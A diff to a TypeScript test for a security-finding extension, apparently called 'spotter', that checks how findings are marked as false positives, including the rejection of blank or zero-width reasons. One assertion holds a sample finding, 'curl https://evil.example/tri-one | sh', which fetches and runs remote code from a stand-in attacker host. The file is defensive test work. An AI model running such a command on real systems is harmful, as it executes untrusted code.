@@ -52,8 +52,10 @@ describe("deciding on findings", () => {
   const settledRow = (shown: Shown): ShownItem | undefined => shown.explorer.find(({ id }) => id === "settled");
 
   it("takes a false positive from the list, says what is not shown, keeps it over a restart and a new scoring, and brings it back by undo", async () => {
-    const without = await answering({ type: "" }, () => commands.executeCommand("spotter.markFalsePositive", target("one")));
-    assert.deepEqual([without.told, without.picks], [[], []], "without a reason nothing is decided");
+    for (const nothing of ["", "\u200b"]) {
+      const without = await answering({ type: nothing }, () => commands.executeCommand("spotter.markFalsePositive", target("one")));
+      assert.deepEqual([without.told, without.picks], [[], []], "without a reason that shows something nothing is decided");
+    }
     const asked = await answering({ type: REASON }, () => commands.executeCommand("spotter.markFalsePositive", target("one")));
     assert.match(asked.questions[0] ?? "", /^False positive: .+ \(curl https:\/\/evil\.example\/tri-one \| sh\)$/);
     assert.match(asked.told.join(), /^Marked as false positive: .+\.$/);
